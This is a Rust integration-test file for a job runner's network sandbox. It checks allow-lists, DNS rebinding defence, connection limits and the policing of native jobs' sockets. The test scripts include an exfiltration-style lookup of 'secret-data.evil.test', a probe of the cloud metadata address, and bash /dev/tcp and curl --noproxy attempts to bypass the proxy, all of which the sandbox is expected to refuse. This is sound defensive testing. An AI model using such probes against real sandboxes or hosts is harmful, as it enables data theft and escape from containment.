        "const slow = fetch('http://127.0.0.1:{port}/slow').then((r) => r.text());\n\
         setTimeout(async () => {{\n\
           try {{ await fetch('http://127.0.0.1:{port}/'); console.log('second: answered'); }}\n\
           catch (e) {{ console.log(`second: ${{e.cause.code}} ${{e.cause.message}}`); }}\n\
           console.log(`first: ${{await slow}}`);\n\
         }}, 1000);\n"
    );
    let settings = format!(
        r#"{{"network": ["http://127.0.0.1:{port}"], "limits": {{"net_connections": 1}}}}"#
    );
    env.deploy_files("one", &[("run.js", &script), ("settings.job", &settings)]);
    run_wasm(&env, &bound, &[], "one");
    let log = env.latest_log("one");
    assert!(
        line_of(&log, "second").contains("EACCES")
            && line_of(&log, "second").contains("(limits.net_connections = 1)"),
        "{log}"
    );
    assert!(line_of(&log, "first").ends_with("small"), "{log}");
    assert_eq!(hits.load(Ordering::SeqCst), 1, "{log}");
    // 1 MiB in, and out, at most: 3 MiB ends the run, naming the limit.
    byte_caps(
        &env,
        port,
        "run.js",
        &format!(
            "fetch('http://127.0.0.1:{port}/big').then((r) => r.arrayBuffer()).then((b) => console.log('finished', b.byteLength));\n"
        ),
        &format!(
            "fetch('http://127.0.0.1:{port}/sink', {{ method: 'POST', body: new Uint8Array(3 << 20) }}).then(() => console.log('finished'), (e) => console.log('failed', e.cause && e.cause.code));\n"
        ),
        &|name| run_wasm(&env, &bound, &[], name),
    );
    // A job that asks for no network has every connection refused, saying
    // how to ask.
    env.deploy_js(
        "none",
        &format!(
            "fetch('http://127.0.0.1:{port}/').then(() => console.log('answered'), (e) => console.log(`none: ${{e.cause.message}}`));"
        ),
        None,
    );
    let before = hits.load(Ordering::SeqCst);
    run_wasm(&env, &bound, &[], "none");
    let log = env.latest_log("none");
    assert!(
        line_of(&log, "none")
            .contains("refused: this run has no network (settings.job \"network\""),
        "{log}"
    );
    assert_eq!(hits.load(Ordering::SeqCst), before, "{log}");
}

/// The names a DNS server was asked about.
type Asked = Arc<std::sync::Mutex<Vec<String>>>;

/// A DNS server on 127.0.0.1 (UDP) for `--net-resolver`: `rebind.test`
/// is 127.0.0.1 at its first A question and 127.0.0.2 after;
/// `allowed.test` is 127.0.0.1; every other name does not exist. Its
/// port, the A questions it was asked for `rebind.test`, and every name
/// it was asked about.
fn dns_server() -> (u16, Arc<AtomicUsize>, Asked) {
    let s = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = s.local_addr().unwrap().port();
    let asked = Arc::new(AtomicUsize::new(0));
    let a = asked.clone();
    let names: Asked = Default::default();
    let all = names.clone();
    std::thread::spawn(move || {
        let mut buf = [0u8; 512];
        loop {
            let Ok((n, from)) = s.recv_from(&mut buf) else {
                continue;
            };
            let q = &buf[..n];
            // The question: labels from byte 12, then type and class.
            let mut at = 12;
            let mut labels = Vec::new();
            while at < n && q[at] != 0 {
                let len = q[at] as usize;
                labels.push(String::from_utf8_lossy(&q[at + 1..at + 1 + len]).to_lowercase());
                at += 1 + len;
            }
            let name = labels.join(".");
            all.lock().unwrap().push(name.clone());
            let qtype = u16::from_be_bytes([q[at + 1], q[at + 2]]);
            let mut r = q[..at + 5].to_vec();
            r[2] = 0x81;
            r[3] = 0x80;
            let ip = match (name.as_str(), qtype) {
                ("rebind.test", 1) => Some(if a.fetch_add(1, Ordering::SeqCst) == 0 {
                    [127, 0, 0, 1]
                } else {
                    [127, 0, 0, 2]
                }),
                ("allowed.test", 1) => Some([127, 0, 0, 1]),
                _ => None,
            };
            match ip {
                Some(ip) => {
                    r[6..8].copy_from_slice(&1u16.to_be_bytes());
                    r.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 0, 0, 4]);
                    r.extend_from_slice(&ip);
                }
                None if name == "rebind.test" || name == "allowed.test" => {}
                None => r[3] |= 3, // no such name
            }
            let _ = s.send_to(&r, from);
        }
    });
    (port, asked, names)
}

/// The host asks for a name once per connection and connects to exactly
/// the address it judged: a name that resolves elsewhere a moment later
/// (DNS rebinding) reaches nothing it did not allow. Names come from the
/// operator's `--net-resolver`.
#[test]
fn a_name_that_rebinds_reaches_only_what_the_host_judged() {
    let env = Env::new();
    let (dns, asked, names) = dns_server();
    let (allowed, hits) = http_server("allowed-bytes", String::new());
    // The same port on 127.0.0.2: where the name points at its second
    // lookup.
    let elsewhere =
        TcpListener::bind(("127.0.0.2", allowed)).expect("a listener on 127.0.0.2 (loopback)");
    let script = format!(
        "(async () => {{\n\
           for (const [what, url] of [['first', 'http://rebind.test:{allowed}/'], ['second', 'http://REBIND.test.:{allowed}/'], ['unknown', 'http://unknown.test:{allowed}/'], ['unnamed', 'http://secret-data.evil.test:{allowed}/']]) {{\n\
             try {{ const r = await fetch(url); console.log(`${{what}}: ${{r.status}} ${{await r.text()}}`); }}\n\
             catch (e) {{ console.log(`${{what}}: error ${{e.cause.code}}`); }}\n\
           }}\n\
         }})();\n"
    );
    let settings = format!(
        r#"{{"network": ["http://rebind.test:{allowed}", "http://unknown.test:{allowed}", "http://127.0.0.1:{allowed}"]}}"#
    );
    env.deploy_files(
        "rebind",
        &[("run.js", &script), ("settings.job", &settings)],
    );
    let bound = format!("public,tcp://127.0.0.1:{allowed}");
    run_wasm(
        &env,
        &bound,
        &["--net-resolver", &format!("127.0.0.1:{dns}")],
        "rebind",
    );
    let log = env.latest_log("rebind");
    assert!(
        line_of(&log, "first").ends_with("200 allowed-bytes"),
        "{log}"
    );
    assert!(
        log.contains(&format!(
            "Network: connected to rebind.test:{allowed} (127.0.0.1)"
        )),
        "{log}"
    );
    // The second connection's one lookup gave 127.0.0.2: refused, named.
    assert!(line_of(&log, "second").ends_with("error EACCES"), "{log}");
    assert!(
        log.contains(&format!(
            "rebind.test:{allowed} (127.0.0.2): refused: 127.0.0.2 is a loopback address"
        )),
        "{log}"
    );
    assert!(
        line_of(&log, "unknown").ends_with("error ENOTFOUND"),
        "{log}"
    );
    // A name no pattern names is never asked about (a way to send data
    // out through the host's lookups).
    assert!(line_of(&log, "unnamed").ends_with("error EACCES"), "{log}");
    assert!(
        log.contains(
            "secret-data.evil.test: refused without a lookup: no pattern of the job's names it"
        ),
        "{log}"
    );
    assert!(
        !names.lock().unwrap().iter().any(|n| n.contains("evil")),
        "{:?}",
        names.lock().unwrap()
    );
    // One question per connection, and nothing reached 127.0.0.2.
    assert_eq!(asked.load(Ordering::SeqCst), 2, "{log}");
    assert_eq!(hits.load(Ordering::SeqCst), 1, "{log}");
    elsewhere.set_nonblocking(true).unwrap();
    assert!(elsewhere.accept().is_err(), "127.0.0.2 was reached:\n{log}");
}

/// Whether these tests run as root (the host then relays a native job's
/// own connections).
fn is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("Uid:"))
                .map(|u| u.split_whitespace().nth(1) == Some("0"))
        })
        .unwrap_or(false)
}

/// A native job's own connections (a C program's `connect`, PHP's
/// streams, bash's `/dev/tcp`, curl told to skip the proxy) are held to
/// the same policy as the proxy's, judged by the servers.
#[test]
fn a_native_jobs_own_connections_are_held_to_its_policy() {
    let env = Env::new();
    if let Err(why) = native_with_curl(&env) {
        return skip(&why);
    }
    if !is_root() {
        return skip("relaying a native job's own connections needs a root host");
    }
    let php_modules = std::process::Command::new("php").arg("-m").output();
    if !php_modules.is_ok_and(|o| {
        String::from_utf8_lossy(&o.stdout)
            .lines()
            .any(|l| l == "curl")
    }) {
        return skip(
            "php and its curl module are not installed (scripts/setup.sh installs php-cli and php-curl)",
        );
    }
    let dir = tempfile::tempdir().unwrap();
    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/net/client.c");
    let bin = dir.path().join("client");
    match std::process::Command::new("cc")
        .arg("-O2")
        .arg("-o")
        .arg(&bin)
        .arg(&src)
        .status()
    {
        Ok(s) if s.success() => {}
        _ => {
            return skip(
                "cc cannot build tests/net/client.c (scripts/setup.sh installs build-essential)",
            );
        }
    }
    let (other, other_hits) = http_server("other", String::new());
    let (allowed, hits) = http_server("allowed-bytes", String::new());
    // A UDP echo server (allowed by a udp:// pattern) and another UDP port.
    let echo = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    let udp = echo.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let mut buf = [0u8; 512];
        while let Ok((n, from)) = echo.recv_from(&mut buf) {
            let reply = [b"echo: ", &buf[..n]].concat();
            let _ = echo.send_to(&reply, from);
        }
    });
    let silent = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    silent.set_nonblocking(true).unwrap();
    let udp_other = silent.local_addr().unwrap().port();
    let script = format!(
        r#"echo "udp: $( (exec 3<>/dev/udp/127.0.0.1/{udp}; echo ping >&3; timeout 5 dd bs=512 count=1 <&3 2>/dev/null) 2>&1)"
echo "udp other: $( (exec 3<>/dev/udp/127.0.0.1/{udp_other} && echo ping >&3) 2>&1)"
echo "c: $(./client 127.0.0.1 {allowed} 2>&1)"
echo "c other port: $(./client 127.0.0.1 {other} 2>&1)"
echo "c other loopback: $(./client 127.0.0.2 {allowed} 2>&1)"
echo "c metadata: $(./client 169.254.169.254 80 2>&1)"
echo "php: $(php -r 'echo @file_get_contents("http://127.0.0.1:{allowed}/") ?: "failed";' 2>&1)"
echo "php other: $(php -r 'echo @file_get_contents("http://127.0.0.1:{other}/") ?: "failed";' 2>&1)"
echo "php curl: $(php -r '$c = curl_init("http://127.0.0.1:{allowed}/"); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); echo curl_exec($c) ?: curl_error($c);' 2>&1)"
echo "php curl direct: $(php -r '$c = curl_init("http://127.0.0.1:{allowed}/"); curl_setopt($c, CURLOPT_RETURNTRANSFER, true); curl_setopt($c, CURLOPT_NOPROXY, "*"); echo curl_exec($c) ?: curl_error($c);' 2>&1)"
echo "bash: $( (exec 3<>/dev/tcp/127.0.0.1/{allowed}; printf 'GET / HTTP/1.0

' >&3; tail -1 <&3) 2>&1)"
echo "curl direct: $(curl -sS -m 10 --noproxy '*' http://127.0.0.1:{allowed}/ 2>&1)"
"#
    );
    let settings =
        format!(r#"{{"network": ["http://127.0.0.1:{allowed}", "udp://127.0.0.1:{udp}"]}}"#);
    let client = std::fs::read(&bin).unwrap();
    let job = env.dir.path().join("own-src");
    std::fs::create_dir_all(&job).unwrap();
    std::fs::write(job.join("run.sh"), &script).unwrap();
    std::fs::write(job.join("settings.job"), &settings).unwrap();
    std::fs::write(job.join("client"), &client).unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(job.join("client"), std::fs::Permissions::from_mode(0o755))
            .unwrap();
    }
    env.run(&["deploy", job.to_str().unwrap(), "--name", "own"])
        .ok();
    run_native(
        &env,
        &format!("public,tcp://127.0.0.1:{allowed},udp://127.0.0.1:{udp}"),
        "own",
        &[],
    );
    let log = env.latest_log("own");
    for what in [
        "c",
        "php",
        "php curl",
        "php curl direct",
        "bash",
        "curl direct",
    ] {
        assert!(
            line_of(&log, what).ends_with("allowed-bytes"),
            "{what}: {log}"
        );
    }
    for what in ["c other port", "c other loopback", "c metadata"] {
        assert!(
            line_of(&log, what).ends_with("connect: Permission denied"),
            "{what}: {log}"
        );
    }
    assert!(line_of(&log, "php other").ends_with("failed"), "{log}");
    assert!(
        log.contains(&format!(
            "127.0.0.1:{other}: refused: no pattern of the job's allows it"
        )),
        "{log}"
    );
    assert!(log.contains("169.254.169.254:80: refused"), "{log}");
    assert!(
        log.contains(&format!(
            "connected to 127.0.0.1:{allowed} (the job's own connection, relayed by the host)"
        )),
        "{log}"
    );
    assert_eq!(hits.load(Ordering::SeqCst), 6, "{log}");
    assert_eq!(other_hits.load(Ordering::SeqCst), 0, "{log}");
    // UDP: the udp:// pattern's server answers; another port is refused,
    // and no datagram reached it.
    assert!(line_of(&log, "udp").ends_with("echo: ping"), "{log}");
    assert!(
        line_of(&log, "udp other").contains("Permission denied"),
        "{log}"
    );
    assert!(
        log.contains(&format!(
            "UDP to 127.0.0.1:{udp_other}: refused: no pattern of the job's allows it (\"udp://127.0.0.1:{udp_other}\" would)"
        )),
        "{log}"
    );
    assert!(silent.recv_from(&mut [0u8; 16]).is_err(), "{log}");
}

/// A native job's own lookups are answered by the host: a name a pattern
/// names resolves (by the operator's `--net-resolver` here) and its
/// connection is judged as that name; any other name is refused without
/// asking anyone.
#[test]
fn a_native_jobs_own_lookups_are_answered_by_the_host() {
    let env = Env::new();
    if let Err(why) = native_with_curl(&env) {
        return skip(&why);
    }
    if !is_root() {
        return skip("relaying a native job's own connections needs a root host");
    }
    let (dns, _, names) = dns_server();
    let (allowed, hits) = http_server("allowed-bytes", String::new());
    let script = format!(
        r#"echo "php: $(php -r 'echo @file_get_contents("http://allowed.test:{allowed}/") ?: "failed";' 2>&1)"
echo "bash: $( (exec 3<>/dev/tcp/allowed.test/{allowed}; printf 'GET / HTTP/1.0\r\n\r\n' >&3; tail -1 <&3) 2>&1)"
echo "unnamed: $(php -r 'echo @file_get_contents("http://secret-data.evil.test:{allowed}/") ?: "failed";' 2>&1)"
"#
    );
    let settings =
        format!(r#"{{"network": ["http://allowed.test:{allowed}", "tcp://127.0.0.1:{allowed}"]}}"#);
    env.deploy_files(
        "lookups",
        &[("run.sh", &script), ("settings.job", &settings)],
    );
    env.cmd()
        .args(["--executor", "native", "--network"])
        .arg(format!("public,tcp://127.0.0.1:{allowed}"))
        .args([
            "--net-resolver",
            &format!("127.0.0.1:{dns}"),
            "run",
            "lookups",
        ])
        .output()
        .unwrap();
    let log = env.latest_log("lookups");
    assert!(line_of(&log, "php").ends_with("allowed-bytes"), "{log}");
    assert!(line_of(&log, "bash").ends_with("allowed-bytes"), "{log}");
    assert!(line_of(&log, "unnamed").ends_with("failed"), "{log}");
    assert!(
        log.contains("Network: looked up allowed.test for the job: 127.0.0.1"),
        "{log}"
    );
    assert!(
        log.contains(&format!(
            "connected to allowed.test:{allowed} (127.0.0.1) (the job's own connection, relayed by the host)"
        )),
        "{log}"
    );
    assert!(
        log.contains("secret-data.evil.test: refused without a lookup"),
        "{log}"
    );
    assert!(
        !names.lock().unwrap().iter().any(|n| n.contains("evil")),
        "{:?}",
        names.lock().unwrap()
    );
    assert_eq!(hits.load(Ordering::SeqCst), 2, "{log}");
}

/// The vendored node-postgres job (tests/net/pg-job), copied and deployed
/// as `pg`, allowed 127.0.0.1:`port`; its source and its copy.
fn pg_job(env: &Env, port: &str) -> (std::path::PathBuf, std::path::PathBuf) {
    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/net/pg-job");
    let job = env.dir.path().join("pg-job");
    let copied = std::process::Command::new("cp")
        .arg("-r")
        .arg(&src)
        .arg(&job)
        .status()
        .unwrap();
    assert!(copied.success());
    std::fs::write(
        job.join("settings.job"),
        format!(r#"{{"network": ["tcp://127.0.0.1:{port}"]}}"#),
    )
    .unwrap();
    env.run(&["deploy", job.to_str().unwrap(), "--name", "pg"])
        .ok();
    (src, job)
}

/// A real npm client library, as users install it: node-postgres (`pg`,
/// vendored in tests/net/pg-job with its provenance) queries the tests'
/// PostgreSQL server from the JS guest, allowed exactly that server, and
/// prints what Node 20 printed.
#[test]
fn a_js_job_queries_postgresql_with_the_pg_package() {
    let url = match std::env::var("WASMJOBS_TEST_DATABASE_URL") {
        Ok(u) if !u.is_empty() => u,
        _ => {
            return skip(
                "no WASMJOBS_TEST_DATABASE_URL (scripts/test.sh starts a PostgreSQL server for these tests)",
            );
        }
    };
    let authority = url
        .split_once("://")
        .and_then(|(_, rest)| rest.split('/').next())
        .map(|a| a.rsplit('@').next().unwrap_or(a).to_string())
        .expect("a database URL");
    let port = authority.rsplit(':').next().unwrap();
    let env = Env::new();
    let (src, job) = pg_job(&env, port);
    let bound = format!("public,tcp://127.0.0.1:{port}");
    let out = env
        .cmd()
        .args([
            "--executor",
            "wasm",
            "--network",
            &bound,
            "run",
            "pg",
            "--",
            &url,
        ])
        .output()
        .unwrap();
    let log = env.latest_log("pg");
    assert!(out.status.success(), "{log}");
    let printed: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("> vm: INFO] "))
        .map(|l| l.split("> vm: INFO] ").nth(1).unwrap())
        .collect();
    let expected = std::fs::read_to_string(src.join("expected.txt")).unwrap();
    assert_eq!(printed, expected.lines().collect::<Vec<_>>(), "{log}");
    assert!(
        log.contains(&format!("Network: connected to 127.0.0.1:{port}")),
        "{log}"
    );
    // Allowed another port only, the driver's connection is refused.
    std::fs::write(
        job.join("settings.job"),
        r#"{"network": ["tcp://127.0.0.1:1"]}"#,
    )
    .unwrap();
    env.run(&["deploy", job.to_str().unwrap(), "--name", "pg"])
        .ok();
    env.cmd()
        .args([
            "--executor",
            "wasm",
            "--network",
            &bound,
            "run",
            "pg",
            "--",
            &url,
        ])
        .output()
        .unwrap();
    let log = env.latest_log("pg");
    assert!(log.contains(&format!("127.0.0.1:{port}: refused")), "{log}");
    assert!(log.contains("error EACCES connect EACCES"), "{log}");
}

/// node-postgres logs in with a password (SCRAM-SHA-256: HMAC and PBKDF2
/// in the guest) to a server that asks for one, and a wrong password is
/// the server's refusal, as under Node.
#[test]
fn a_js_job_logs_in_to_postgresql_with_scram() {
    if !std::path::Path::new("/usr/lib/postgresql").exists() {
        return skip("PostgreSQL is not installed (scripts/setup.sh --test installs it)");
    }
    let port = common::http::free_port();
    let server = common::pg::Throwaway::start_with(port, Some("s3cret-pw"));
    let env = Env::new();
    let (src, _) = pg_job(&env, &port.to_string());
    let bound = format!("public,tcp://127.0.0.1:{port}");
    let run = |url: &str| {
        env.cmd()
            .args([
                "--executor",
                "wasm",
                "--network",
                &bound,
                "run",
                "pg",
                "--",
                url,
            ])
            .output()
            .unwrap();
        env.latest_log("pg")
    };
    let log = run(&server.url);
    let expected = std::fs::read_to_string(src.join("expected.txt")).unwrap();
    for line in expected.lines() {
        assert!(
            log.contains(&format!("> vm: INFO] {line}")),
            "{line}: {log}"
        );
    }
    let wrong = server.url.replace("s3cret-pw", "wrong");
    let log = run(&wrong);
    assert!(
        log.contains("error 28P01 password authentication failed for user \"wasmjobs\""),
        "{log}"
    );
}
